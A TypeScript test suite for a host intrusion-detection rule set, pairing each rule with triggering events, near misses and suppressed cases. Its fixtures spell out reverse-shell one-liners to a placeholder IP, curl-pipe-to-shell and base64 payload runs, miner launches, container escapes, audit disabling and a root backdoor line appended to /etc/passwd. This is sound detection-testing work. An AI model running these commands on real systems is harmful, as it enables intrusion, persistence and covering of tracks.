import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import type { DefaultRule, EventRecord } from '../src/index.js';
import {
  AGGREGATE_FIELDS,
  BASE_RULE_SET,
  compileFilter,
  compileRule,
  EVENT_FIELDS,
  FilterError,
  getField,
  renderTemplate,
  templateFields,
} from '../src/index.js';

// ---- event builders (shapes documented in EVENTS.md) ------------------------------------------------

const NO_SESSION = 4294967295;
const HOST = { agentId: '6a1f6a1e-0b0a-4c55-9b1e-1d2c3b4a5f60', hostname: 'web-prod-01', timestamp: 1_767_225_600_000 };
const ALICE = { user: 'alice', uid: 1001, gid: 1001, tty: 'pts/0', session: 12, cwd: '/home/alice' };

function exec(command: string, args: string[], extra: EventRecord = {}): EventRecord {
  return { ...HOST, ...ALICE, event_type: 'audit', type: 'start', syscall: 'execve', success: true, pid: 4242, ppid: 4200, exe: `/usr/bin/${command}`, command, args, ...extra };
}

function syscall(name: string, extra: EventRecord = {}): EventRecord {
  return { ...HOST, ...ALICE, event_type: 'audit', type: 'syscall', syscall: name, success: true, pid: 4242, ppid: 4200, exe: '/usr/bin/python3.10', command: 'python3', args: ['python3', 'x.py'], ...extra };
}

const FILE_SYSCALL = { open: 'openat', modify: 'write', delete: 'unlinkat', attrib: 'fchmodat' } as const;

function file(filename: string, type: keyof typeof FILE_SYSCALL, extra: EventRecord = {}): EventRecord {
  return {
    ...HOST,
    ...ALICE,
    user: 'root',
    uid: 0,
    event_type: 'file',
    type,
    syscall: FILE_SYSCALL[type],
    success: true,
    pid: 5150,
    exe: '/usr/bin/vim.basic',
    command: 'vim',
    args: ['vim', filename],
    filename,
    sha256: 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
    ...extra,
  };
}

function connect(dst_ip: string, dst_port: number, extra: EventRecord = {}): EventRecord {
  return {
    ...HOST,
    user: 'www-data',
    uid: 33,
    tty: '(none)',
    session: NO_SESSION,
    event_type: 'connect',
    connect_type: 'outbound',
    syscall: 'connect',
    protocol: 'tcp',
    success: true,
    pid: 7001,
    exe: '/usr/bin/python3.10',
    command: 'python3',
    args: ['python3', '/tmp/.s.py'],
    src_ip: '10.0.1.17',
    src_port: 51234,
    dst_ip,
    dst_port,
    ...extra,
  };
}

function login(extra: EventRecord = {}): EventRecord {
  return {
    ...HOST,
    ...ALICE,
    event_type: 'login',
    success: true,
    pid: 9001,
    exe: '/usr/sbin/sshd',
    command: 'sshd',
    auth_method: 'publickey',
    src_ip: '10.0.0.12',
    src_port: 50522,
    dst_ip: '10.0.1.17',
    dst_port: 22,
    ...extra,
  };
}

/** A login as the demo dataset and raw-auditd agents report it. */
function auditLogin(extra: EventRecord = {}): EventRecord {
  return { ...login(extra), event_type: 'audit', type: 'login', syscall: 'execve', args: ['sshd: root@pts/0'], ...extra };
}

function sudo(extra: EventRecord = {}): EventRecord {
  return { ...HOST, ...ALICE, event_type: 'sudo', success: true, exe: '/usr/bin/sudo', command: 'sudo', src_user: 'alice', dst_user: 'root', args: ['sudo', 'systemctl', 'restart', 'nginx'], ...extra };
}

function su(extra: EventRecord = {}): EventRecord {
  return { ...HOST, ...ALICE, event_type: 'su', success: true, exe: '/usr/bin/su', command: 'su', src_user: 'alice', dst_user: 'root', args: ['su', '-'], ...extra };
}

function account(kind: 'user' | 'group', type: 'add' | 'modify' | 'delete', extra: EventRecord = {}): EventRecord {
  return { ...HOST, ...ALICE, user: 'root', uid: 0, event_type: kind, type, success: true, exe: `/usr/sbin/${kind}${type === 'modify' ? 'mod' : type === 'add' ? 'add' : 'del'}`, command: `${kind}${type === 'modify' ? 'mod' : type}`, ...extra };
}

function kmod(extra: EventRecord = {}): EventRecord {
  return { ...HOST, ...ALICE, user: 'root', uid: 0, event_type: 'kernel_module', type: 'load', success: true, exe: '/usr/bin/kmod', command: 'modprobe', module: 'wireguard', args: ['modprobe', 'wireguard'], ...extra };
}

const asService = { user: 'www-data', uid: 33, tty: '(none)', session: NO_SESSION, cwd: '/var/www/html' };

// ---- per rule: events that fire it, near misses, and events each suppression silences -------------

interface Case {
  fires: EventRecord[];
  nearMiss: EventRecord[];
  /** [suppression index, event the filter matches but that suppression silences] */
  suppressed?: Array<[number, EventRecord]>;
}

const CASES: Record<string, Case> = {
  'Process: shell spawned by web server': {
    fires: [
      exec('sh', ['sh', '-c', 'id'], { ...asService, exe: '/usr/bin/dash', parent_command: 'nginx', parent_exe: '/usr/sbin/nginx' }),
      exec('bash', ['bash', '-c', 'uname -a'], { user: 'app', uid: 995, parent_command: 'php-fpm8.1' }),
      exec('sh', ['sh', '-c', 'whoami'], { ...asService }),
    ],
    nearMiss: [
      exec('sh', ['sh', '-c', 'id'], { parent_command: 'sshd' }),
      exec('python3', ['python3', '-c', 'print(1)'], { ...asService, parent_command: 'nginx' }),
    ],
    suppressed: [
      [0, exec('sh', ['sh', '-c', '/usr/sbin/sendmail -t -i -f shop@example.com'], { ...asService, parent_command: 'php-fpm8.1' })],
      [1, exec('sh', ['sh', '-c', 'php -f /var/www/nextcloud/cron.php'], { ...asService, parent_command: 'cron' })],
    ],
  },
  'Process: reverse shell command line': {
    fires: [
      exec('bash', ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'], asService),
      exec('nc', ['nc', '-e', '/bin/sh', '203.0.113.5', '4444'], { exe: '/usr/bin/nc.traditional' }),
      exec('socat', ['socat', 'tcp:203.0.113.5:4444', 'EXEC:/bin/bash,pty,stderr']),
      exec('python3', ['python3', '-c', 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.5",53));pty.spawn("/bin/sh")']),
      exec('php', ['php', '-r', '$sock=fsockopen("203.0.113.5",4444);exec("/bin/sh -i <&3 >&3 2>&3");']),
    ],
    nearMiss: [
      exec('nc', ['nc', '-zv', 'db-1', '5432']),
      exec('socat', ['socat', 'TCP:db-1:5432', 'STDIO']),
      exec('cat', ['cat', '/proc/net/tcp']),
      exec('bash', ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'], { event_type: 'file', syscall: 'write' }),
    ],
  },
  'Process: remote script piped to a shell': {
    fires: [
      exec('sh', ['sh', '-c', 'curl -fsSL http://203.0.113.5/x.sh | sh'], asService),
      exec('bash', ['bash', '-c', 'wget -qO- http://203.0.113.5:8080/k | sudo bash']),
      exec('bash', ['bash', '-c', 'bash <(curl -s https://203.0.113.5/i)']),
    ],
    nearMiss: [exec('sh', ['sh', '-c', 'curl -fsSL https://api.example.com/x.json | jq .']), exec('curl', ['curl', '-o', 'install.sh', 'https://get.example.com'])],
    suppressed: [[0, exec('sh', ['sh', '-c', 'curl -fsSL https://omnitruck.example.com/install.sh | bash'], { user: 'root', uid: 0, parent_command: 'cloud-init' })]],
  },
  'Process: encoded payload executed': {
    fires: [
      exec('sh', ['sh', '-c', 'echo aWQ7dW5hbWUgLWEK | base64 -d | bash'], asService),
      exec('python3', ['python3', '-c', 'import base64;exec(base64.b64decode("aW1wb3J0IG9z"))']),
    ],
    nearMiss: [exec('sh', ['sh', '-c', 'base64 -d cert.b64 > cert.pem']), exec('base64', ['base64', '-d', 'x.b64'])],
  },
  'Process: crypto miner': {
    fires: [
      exec('xmrig', ['./xmrig', '-o', 'pool.example:3333', '-u', '4abc'], { ...asService, exe: '/tmp/.X11-unix/.rsync/xmrig' }),
      exec('sysupdate', ['./sysupdate', '-o', 'stratum+tcp://203.0.113.45:3333', '-u', '4abc'], { exe: '/dev/shm/.x/sysupdate' }),
      exec('kworker', ['[kworker/0:1]', '--donate-level=1'], { exe: '/var/tmp/.k' }),
    ],
    nearMiss: [exec('top', ['top', '-b', '-n', '1']), exec('curl', ['curl', 'https://docs.example.com/stratum-protocol'])],
  },
  'Process: netcat listener': {
    fires: [
      exec('nc', ['nc', '-lvnp', '4444'], { exe: '/usr/bin/nc.openbsd' }),
      exec('ncat', ['ncat', '--listen', '8080']),
      exec('socat', ['socat', 'TCP-LISTEN:4444,fork', 'EXEC:/bin/sh']),
    ],
    nearMiss: [exec('nc', ['nc', '-zv', 'db-1', '5432']), exec('socat', ['socat', 'TCP:db-1:5432', '-']), exec('ls', ['ls', '-l'])],
  },
  'Process: binary executed from a temporary directory': {
    fires: [
      exec('x', ['./x'], { exe: '/tmp/x' }),
      exec('sysupdate', ['./sysupdate'], { ...asService, exe: '/dev/shm/.x/sysupdate' }),
      exec('kdevtmpfsi', ['/var/tmp/kdevtmpfsi'], { exe: '/var/tmp/kdevtmpfsi' }),
    ],
    nearMiss: [exec('tmp-cleaner', ['tmp-cleaner'], { exe: '/usr/local/bin/tmp-cleaner' }), exec('x', ['x'], { exe: '/home/alice/tmp/x' })],
    suppressed: [[0, exec('main', ['main'], { exe: '/tmp/go-build3412/b001/exe/main' })]],
  },
  'Process: package manager run interactively': {
    fires: [
      exec('apt-get', ['apt-get', 'install', '-y', 'nmap'], { user: 'root', uid: 0 }),
      exec('pip3', ['pip3', 'install', 'requests'], { exe: '/usr/bin/python3.10' }),
      exec('rpm', ['rpm', '-Uvh', '/tmp/x.rpm'], { user: 'root', uid: 0 }),
    ],
    nearMiss: [exec('apt-get', ['apt-get', 'update'], { user: 'root', uid: 0, tty: '(none)', session: NO_SESSION }), exec('apt-get', ['apt-get', 'update'], { tty: undefined }), exec('vim', ['vim', '/etc/apt/sources.list'])],
    suppressed: [
      [0, exec('apt-get', ['apt-get', 'install', '-y', 'nginx'], { user: 'ansible', uid: 1011 })],
      [1, exec('rpm', ['rpm', '-qa'])],
      [2, exec('apt', ['apt', 'list', '--upgradable'])],
    ],
  },
  'Process: setuid or setgid bit set': {
    fires: [
      exec('chmod', ['chmod', 'u+s', '/tmp/.sh'], asService),
      exec('chmod', ['chmod', '4755', '/var/tmp/bash']),
      exec('chmod', ['chmod', '-R', 'g+s', '/srv/shared']),
      syscall('fchmodat', { filename: '/tmp/.sh', mode: '4755' }),
    ],
    nearMiss: [
      exec('chmod', ['chmod', '755', '/tmp/x']),
      exec('chmod', ['chmod', '+x', 'deploy.sh']),
      exec('chmod', ['chmod', '1777', '/tmp/shared']),
      syscall('chmod', { filename: '/tmp/x', mode: '0644' }),
    ],
    suppressed: [[0, exec('chmod', ['chmod', '4755', '/usr/bin/passwd'], { user: 'root', uid: 0, parent_command: 'dpkg' })]],
  },
  'Process: ptrace or process memory injection': {
    fires: [syscall('ptrace', asService), syscall('process_vm_writev', { command: 'inject', exe: '/tmp/inject' })],
    nearMiss: [syscall('ptrace', { command: 'gdb', exe: '/usr/bin/gdb' }), syscall('openat', asService)],
  },
  'Process: container escape attempt': {
    fires: [
      exec('nsenter', ['nsenter', '-t', '1', '-m', '-u', '-i', '-n', '-p', 'sh'], { user: 'root', uid: 0, container_id: '3f2a9c1d7e8b' }),
      exec('nsenter', ['nsenter', '--target=1', '--mount', 'sh']),
      exec('sh', ['sh', '-c', 'echo /cmd > /sys/fs/cgroup/rdma/release_agent'], { container_id: '3f2a9c1d7e8b' }),
      exec('mount', ['mount', '-t', 'proc', 'proc', '/mnt/p'], { container_id: '3f2a9c1d7e8b' }),
      exec('mount', ['mount', '/dev/sda1', '/mnt/host'], { container_id: '3f2a9c1d7e8b' }),
    ],
    nearMiss: [
      exec('nsenter', ['nsenter', '-t', '4242', '-n', 'ip', 'addr']),
      exec('mount', ['mount', '-t', 'proc', 'proc', '/mnt/chroot/proc']),
      exec('mount', ['mount', '/dev/nvme1n1', '/data']),
    ],
    suppressed: [[0, exec('nsenter', ['nsenter', '--target=1', '--mount', '--', 'systemctl', 'is-active', 'docker'], { parent_command: 'kubelet' })]],
  },
  'Process: audit or logging disabled': {
    fires: [
      exec('auditctl', ['auditctl', '-D'], { user: 'root', uid: 0 }),
      exec('auditctl', ['auditctl', '-e', '0']),
      exec('systemctl', ['systemctl', 'stop', 'auditd']),
      exec('service', ['service', 'rsyslog', 'stop']),
    ],
    nearMiss: [exec('auditctl', ['auditctl', '-l']), exec('auditctl', ['auditctl', '-e', '1']), exec('systemctl', ['systemctl', 'restart', 'auditd']), exec('systemctl', ['systemctl', 'stop', 'nginx'])],
    suppressed: [[0, exec('auditctl', ['auditctl', '-D'], { user: 'root', uid: 0, session: NO_SESSION, parent_command: 'augenrules' })]],
  },
  'Process: shell history tampering': {
    fires: [
      exec('bash', ['bash', '-c', 'unset HISTFILE; id']),
      exec('ln', ['ln', '-sf', '/dev/null', '/root/.bash_history']),
      exec('rm', ['rm', '-f', '/home/alice/.bash_history']),
      exec('bash', ['bash', '-c', 'history -c']),
    ],
    nearMiss: [exec('cat', ['cat', '/root/.bash_history']), exec('grep', ['grep', 'ssh', '.bash_history']), exec('rm', ['rm', '-f', '/tmp/history.txt'])],
  },
  'Network: interpreter connected to an unusual port': {
    fires: [
      connect('203.0.113.5', 4444),
      connect('2001:db8::5', 6667, { command: 'perl', exe: '/usr/bin/perl', args: ['perl', '/var/tmp/.ICE/bot.pl'] }),
      connect('192.0.2.66', 1337, { command: '.s.py', exe: '/usr/bin/python3.11' }),
    ],
    nearMiss: [
      connect('203.0.113.5', 443),
      connect('10.0.2.15', 4444),
      connect('fd12:3456::1', 4444),
      connect('203.0.113.5', 4444, { command: 'curl', exe: '/usr/bin/curl', args: ['curl', 'http://203.0.113.5:4444/'] }),
    ],
    suppressed: [[0, connect('198.51.100.25', 587, { command: 'php', exe: '/usr/bin/php8.1' })]],
  },
  'Network: connection to a mining pool port': {
    fires: [connect('203.0.113.45', 3333, { command: 'sysupdate', exe: '/dev/shm/.x/sysupdate' }), connect('192.0.2.134', 14444)],
    nearMiss: [connect('10.0.3.9', 3333), connect('203.0.113.45', 443)],
  },
  'User Activity: interactive root login': {
    fires: [login({ user: 'root', uid: 0 }), auditLogin({ user: 'root', uid: 0, tty: 'pts0', src_ip: '198.51.100.87' })],
    nearMiss: [login({ user: 'root', uid: 0, tty: '(none)' }), login({ user: 'root', uid: 0, tty: undefined }), login(), login({ user: 'root', uid: 0, success: false })],
  },
  'User Activity: SSH login from a public address': {
    fires: [login({ src_ip: '198.51.100.7' }), login({ src_ip: '2001:db8::7' }), auditLogin({ user: 'root', src_ip: '203.0.113.45' })],
    nearMiss: [
      login({ src_ip: '10.0.0.12' }),
      login({ src_ip: '::ffff:192.168.1.4' }),
      login({ src_ip: '198.51.100.7', success: false }),
      login({ src_ip: '198.51.100.7', command: 'login', exe: '/usr/bin/login' }),
      login({ src_ip: undefined }),
    ],
  },
  'User Activity: SSH brute force': {
    fires: [login({ success: false, user: 'admin', uid: undefined, src_ip: '203.0.113.9', tty: undefined, auth_method: 'password' })],
    nearMiss: [login({ src_ip: '203.0.113.9' }), sudo({ success: false }), login({ success: false, command: 'login', exe: '/usr/bin/login' })],
  },
  'User Activity: sudo by a service account': {
    fires: [sudo({ ...asService, src_user: 'www-data', args: ['sudo', '-n', 'id'] }), sudo({ user: 'postgres', uid: 26, src_user: 'postgres' })],
    nearMiss: [sudo(), sudo({ user: 'root', uid: 0 }), exec('sudo', ['sudo', 'id'], asService)],
    suppressed: [[0, sudo({ user: 'nagios', uid: 112, args: ['sudo', '/usr/lib/nagios/plugins/check_disk', '-w', '10%'] })]],
  },
  'User Activity: repeated sudo failures': {
    fires: [sudo({ success: false, args: ['sudo', 'cat', '/etc/shadow'] })],
    nearMiss: [sudo(), su({ success: false })],
  },
  'User Activity: su to root': {
    fires: [su()],
    nearMiss: [su({ dst_user: 'postgres' }), su({ user: 'root', uid: 0 }), su({ success: false })],
  },
  'User Activity: user account created': {
    fires: [account('user', 'add', { dst_user: 'sysupd' })],
    nearMiss: [account('user', 'modify', { dst_user: 'bob' }), account('group', 'add', { group: 'analytics' })],
    suppressed: [[0, account('user', 'add', { dst_user: 'ubuntu', session: NO_SESSION, tty: '(none)', parent_command: 'cloud-init' })]],
  },
  'User Activity: group created': {
    fires: [account('group', 'add', { group: 'analytics' })],
    nearMiss: [account('group', 'delete', { group: 'analytics' }), account('user', 'add', { dst_user: 'x' })],
    suppressed: [[0, account('group', 'add', { group: 'nginx', session: NO_SESSION, tty: '(none)', parent_command: 'dpkg' })]],
  },
  'User Activity: privileged group membership changed': {
    fires: [account('user', 'modify', { dst_user: 'bob', group: 'sudo' }), account('group', 'modify', { dst_user: 'bob', group: 'docker' }), account('user', 'add', { dst_user: 'evil', group: 'wheel' })],
    nearMiss: [account('user', 'modify', { dst_user: 'bob', group: 'developers' }), account('user', 'delete', { dst_user: 'bob', group: 'sudo' })],
  },
  'Kernel module loaded': {
    fires: [
      kmod({ module: 'diamorphine', command: 'insmod', args: ['insmod', '/tmp/.ICE-unix/diamorphine.ko'], session: NO_SESSION, tty: '(none)' }),
      syscall('finit_module', { user: 'root', uid: 0, exe: '/usr/bin/kmod', command: 'modprobe', args: ['modprobe', 'tcp_bbr'] }),
    ],
    nearMiss: [kmod({ type: 'unload' }), exec('lsmod', ['lsmod'])],
    suppressed: [
      [0, kmod({ module: 'overlay', args: ['modprobe', 'overlay'], session: NO_SESSION, tty: '(none)' })],
      [0, syscall('finit_module', { user: 'root', uid: 0, command: 'modprobe', args: ['modprobe', 'br_netfilter'], session: NO_SESSION, tty: '(none)' })],
    ],
  },
  'File: /etc/passwd or /etc/group modified': {
    fires: [
      file('/etc/passwd', 'modify', { exe: '/usr/bin/bash', command: 'bash', args: ['bash', '-c', 'echo "sysupd:x:0:0::/root:/bin/bash" >> /etc/passwd'], session: NO_SESSION }),
      // no type: derived from the syscall, as older agents and the demo dataset send it
      { ...file('/etc/group', 'modify', { exe: '/usr/sbin/vipw', command: 'vipw' }), type: undefined, syscall: 'rename' },
    ],
    nearMiss: [file('/etc/passwd', 'open'), file('/etc/passwd-', 'modify')],
    suppressed: [[0, file('/etc/passwd', 'modify', { exe: '/usr/sbin/useradd', command: 'useradd', session: NO_SESSION })]],
  },
  'File: /etc/shadow or /etc/gshadow modified': {
    fires: [file('/etc/shadow', 'modify', { exe: '/usr/bin/bash', command: 'bash', session: NO_SESSION, tty: '(none)' }), file('/etc/gshadow', 'delete')],
    nearMiss: [file('/etc/shadow', 'open'), file('/etc/shadow', 'attrib')],
    suppressed: [[0, file('/etc/shadow', 'modify', { exe: '/usr/bin/passwd', command: 'passwd' })]],
  },
  'File: /etc/shadow read by an unexpected process': {
    fires: [file('/etc/shadow', 'open', { command: 'cat', exe: '/usr/bin/cat' }), file('/etc/gshadow', 'open', { command: 'python3', exe: '/usr/bin/python3.10' })],
    nearMiss: [file('/etc/shadow', 'open', { command: 'sshd', exe: '/usr/sbin/sshd' }), file('/etc/passwd', 'open', { command: 'cat' })],
  },
  'File: sudoers modified': {
    fires: [file('/etc/sudoers', 'modify'), file('/etc/sudoers.d/90-www', 'modify', { command: 'tee', exe: '/usr/bin/tee' }), file('/etc/sudoers', 'attrib', { mode: '0666' })],
    nearMiss: [file('/etc/sudoers', 'open'), file('/etc/sudoers.dpkg-old', 'modify')],
    suppressed: [[0, file('/etc/sudoers', 'modify', { command: 'dpkg', exe: '/usr/bin/dpkg' })]],
  },
  'File: cron configuration modified': {
    fires: [file('/etc/cron.d/sysupdate', 'modify', { command: 'bash' }), file('/var/spool/cron/crontabs/www-data', 'modify', { command: 'crontab' }), file('/etc/crontab', 'delete')],
    nearMiss: [file('/etc/cron.allow', 'modify'), file('/etc/cron.d/sysupdate', 'open')],
    suppressed: [[0, file('/etc/cron.daily/logrotate', 'modify', { command: 'dpkg', exe: '/usr/bin/dpkg' })]],
  },
  'File: systemd unit created or modified': {
    fires: [
      file('/etc/systemd/system/sysupdate.service', 'modify', { command: 'tee' }),
      file('/etc/systemd/system/multi-user.target.wants/sysupdate.service', 'modify', { command: 'systemctl' }),
      file('/etc/systemd/system/ssh.service.d/override.conf', 'modify'),
      file('/home/alice/.config/systemd/user/agent.timer', 'modify', { user: 'alice' }),
    ],
    nearMiss: [file('/etc/systemd/system.conf', 'modify'), file('/etc/systemd/system/sysupdate.service', 'open')],
    suppressed: [[0, file('/lib/systemd/system/nginx.service', 'modify', { command: 'dpkg', exe: '/usr/bin/dpkg' })]],
  },
  'File: SSH authorized_keys modified': {
    fires: [file('/root/.ssh/authorized_keys', 'modify', { command: 'tee', session: NO_SESSION }), file('/home/bob/.ssh/authorized_keys2', 'attrib', { user: 'bob' })],
    nearMiss: [file('/root/.ssh/known_hosts', 'modify'), file('/root/.ssh/authorized_keys', 'open')],
    suppressed: [
      [0, file('/home/ansible/.ssh/authorized_keys', 'modify', { user: 'ansible', command: 'python3' })],
      [1, file('/home/ubuntu/.ssh/authorized_keys', 'modify', { command: 'cloud-init' })],
    ],
  },
  'File: dynamic linker preload configured': {
    fires: [file('/etc/ld.so.preload', 'modify', { command: 'bash', session: NO_SESSION })],
    nearMiss: [file('/etc/ld.so.conf', 'modify'), file('/etc/ld.so.preload', 'open')],
  },
  'File: SSH daemon configuration changed': {
    fires: [file('/etc/ssh/sshd_config', 'modify'), file('/etc/ssh/sshd_config.d/50-cloud-init.conf', 'modify')],
    nearMiss: [file('/etc/ssh/ssh_config', 'modify'), file('/etc/ssh/sshd_config', 'open')],
    suppressed: [[0, file('/etc/ssh/sshd_config', 'modify', { command: 'dpkg', exe: '/usr/bin/dpkg' })]],
  },
  'File: system binary modified outside the package manager': {
    fires: [
      file('/usr/bin/ps', 'modify', { command: 'cp', exe: '/usr/bin/cp' }),
      file('/bin/ls', 'modify'),
      file('/usr/local/sbin/x', 'attrib', { mode: '4755' }),
      file('/usr/sbin/sshd', 'delete', { command: 'rm' }),
    ],
    nearMiss: [file('/usr/bin/ps', 'open'), file('/usr/share/bin/x', 'modify'), file('/usr/lib/x86_64-linux-gnu/libc.so.6', 'modify')],
    suppressed: [
      [0, file('/usr/bin/ps', 'modify', { command: 'dpkg', exe: '/usr/bin/dpkg' })],
      [0, file('/usr/bin/editor', 'modify', { command: 'update-alternat', parent_command: 'dpkg' })],
    ],
  },
  'File: log file deleted or truncated': {
    fires: [file('/var/log/auth.log', 'delete', { command: 'rm', exe: '/usr/bin/rm' }), file('/var/log/wtmp', 'modify', { syscall: 'truncate', command: 'truncate' })],
    nearMiss: [file('/var/log/auth.log', 'modify', { command: 'rsyslogd' }), file('/tmp/auth.log', 'delete')],
    suppressed: [
      [0, file('/var/log/syslog', 'modify', { syscall: 'ftruncate', command: 'logrotate' })],
      [1, file('/var/log/syslog.7.gz', 'delete', { command: 'rm' })],
    ],
  },
  'File: shell history cleared or deleted': {
    fires: [file('/root/.bash_history', 'delete', { command: 'rm' }), file('/home/bob/.zsh_history', 'modify', { syscall: 'truncate', user: 'bob' }), file('/root/.history', 'delete')],
    nearMiss: [file('/root/.bash_history', 'modify', { command: 'bash' }), file('/root/.bash_profile', 'delete')],
  },
};

// ---- tests --------------------------------------------------------------------------------------------

const RULES = BASE_RULE_SET.rules;

describe('Base Rule Set: shape', () => {
  test('name, description and size', () => {
    assert.equal(BASE_RULE_SET.name, 'Base Rule Set');
    assert.ok(BASE_RULE_SET.description.length > 0);
    assert.ok(RULES.length >= 25, `${RULES.length} rules`);
    assert.equal(new Set(RULES.map((r) => r.name)).size, RULES.length, 'names are unique');
  });

  test('is deeply frozen', () => {
    assert.ok(Object.isFrozen(BASE_RULE_SET));
    assert.ok(Object.isFrozen(RULES));
    for (const rule of RULES) {
      assert.ok(Object.isFrozen(rule) && Object.isFrozen(rule.suppressions) && Object.isFrozen(rule.aggregateFields), rule.name);
    }
    assert.throws(() => (RULES[0] as DefaultRule).suppressions.push('user = "x"'), TypeError);
  });

  for (const rule of RULES) {
    test(rule.name, () => {
      const compiled = compileRule(rule);
      assert.ok(rule.severityOfAlerts === 1 || rule.severityOfAlerts === 2 || rule.severityOfAlerts === 3);
      assert.ok(rule.alertDescription.length >= 1 && rule.alertDescription.length <= 300, `alertDescription is ${rule.alertDescription.length} chars`);
      assert.ok(Number.isInteger(rule.window) && rule.window > 0);
      assert.ok(Number.isInteger(rule.threshold) && rule.threshold >= 1);
      assert.equal(typeof rule.enabled, 'boolean');
      assert.ok(rule.aggregateFields.length > 0);
      for (const f of rule.aggregateFields) assert.ok(AGGREGATE_FIELDS[rule.type].includes(f), `aggregate field ${f} not allowed for ${rule.type}`);
      for (const f of templateFields(rule.title)) assert.ok(Object.hasOwn(EVENT_FIELDS, f), `title placeholder ${f}`);
      if (rule.type === 'File') {
        assert.deepEqual([...(compiled.eventTypes ?? [])], ['file']);
        assert.ok(rule.fileIntegrityPaths !== undefined && rule.fileIntegrityPaths.length > 0);
        for (const p of rule.fileIntegrityPaths) assert.ok(p.path.startsWith('/') && typeof p.recursive === 'boolean', p.path);
        assert.ok(rule.eventsToMonitor !== undefined && rule.eventsToMonitor.length > 0);
        for (const e of rule.eventsToMonitor) assert.ok(['open', 'modify', 'delete', 'attrib', 'ALL'].includes(e), e);
      } else {
        assert.ok(compiled.eventTypes !== undefined && compiled.eventTypes.size > 0, 'host rules can be bucketed by event_type');
        assert.ok(!compiled.eventTypes.has('file'));
        assert.equal(rule.fileIntegrityPaths, undefined);
        assert.equal(rule.eventsToMonitor, undefined);
      }
    });
  }

  test('brute force counts 5 failures in 300 s per source address', () => {
    const rule = RULES.find((r) => r.name === 'User Activity: SSH brute force')!;
    assert.deepEqual([rule.threshold, rule.window, rule.aggregateFields], [5, 300, ['src_ip']]);
  });

  test('every rule has a test case and every test case a rule', () => {
    assert.deepEqual(Object.keys(CASES).sort(), RULES.map((r) => r.name).sort());
  });
});

describe('Base Rule Set: every rule fires on its event and not on the near miss', () => {
  for (const rule of RULES) {
    const c = CASES[rule.name];
    if (c === undefined) continue;
    test(rule.name, () => {
      const compiled = compileRule(rule);
      assert.ok(c.fires.length > 0 && c.nearMiss.length > 0);
      c.fires.forEach((event, i) => {
        assert.equal(compiled.filter.test(event), true, `fires[${i}] should match the filter`);
        assert.equal(compiled.suppressedBy(event), -1, `fires[${i}] should not be suppressed`);
        assert.equal(compiled.test(event), true);
        assert.ok(compiled.eventTypes === undefined || compiled.eventTypes.has(String(event.event_type)), `fires[${i}] is in the rule's bucket`);
        // the title reads well: every placeholder has a value
        for (const f of templateFields(rule.title)) assert.notEqual(renderTemplate(`{{${f}}}`, event), '', `fires[${i}] has no value for {{${f}}} in the title`);
        if (rule.type === 'File') assert.ok(rule.eventsToMonitor!.includes(String(getField(event, 'type'))), `fires[${i}] type is monitored`);
      });
      c.nearMiss.forEach((event, i) => assert.equal(compiled.filter.test(event), false, `nearMiss[${i}] should not match`));
    });
  }
});

describe('Base Rule Set: suppressions', () => {
  for (const rule of RULES) {
    if (rule.suppressions.length === 0) continue;
    test(rule.name, () => {
      const compiled = compileRule(rule);
      const cases = CASES[rule.name]?.suppressed ?? [];
      const covered = new Set(cases.map(([i]) => i));
      assert.deepEqual([...covered].sort(), rule.suppressions.map((_, i) => i), 'each suppression has an example');
      for (const [index, event] of cases) {
        assert.equal(compiled.filter.test(event), true, `the suppressed event matches the filter (suppression ${index})`);
        assert.equal(compiled.suppressedBy(event), index);
        assert.equal(compiled.test(event), false);
      }
    });
  }
});

describe('compileRule', () => {
  test('an alert is raised only when the filter matches and no suppression does', () => {
    const rule = compileRule({ filter: 'event_type = "sudo"', suppressions: ["user = 'alice' OR user = 'bob'", 'tty = null'] });
    assert.equal(rule.test(sudo({ user: 'carol' })), true);
    assert.equal(rule.test(sudo({ user: 'alice' })), false);
    assert.equal(rule.suppressedBy(sudo({ user: 'bob' })), 0);
    assert.equal(rule.suppressedBy(sudo({ user: 'carol', tty: null })), 1);
    assert.equal(rule.test(su({ user: 'carol' })), false);
    assert.deepEqual([...(rule.eventTypes ?? [])], ['sudo']);
  });

  test('no suppressions', () => {
    assert.equal(compileRule({ filter: 'uid = 0' }).test({ uid: 0 }), true);
  });

  test('an invalid suppression names its index and position', () => {
    assert.throws(
      () => compileRule({ filter: 'uid = 0', suppressions: ['user = "a"', 'user = "a" and comand = "x"'] }),
      (e: unknown) => e instanceof FilterError && e.message === 'suppressions[1]: unknown field "comand" at 15 (did you mean "command"?)' && e.position === 15,
    );
  });

  test('a rule copied with structuredClone can be changed', () => {
    const copy = structuredClone(RULES[0]!);
    copy.suppressions.push('user = "x"');
    assert.equal(compileRule(copy).suppressions.length, RULES[0]!.suppressions.length + 1);
    assert.doesNotThrow(() => compileFilter(copy.filter));
  });
});
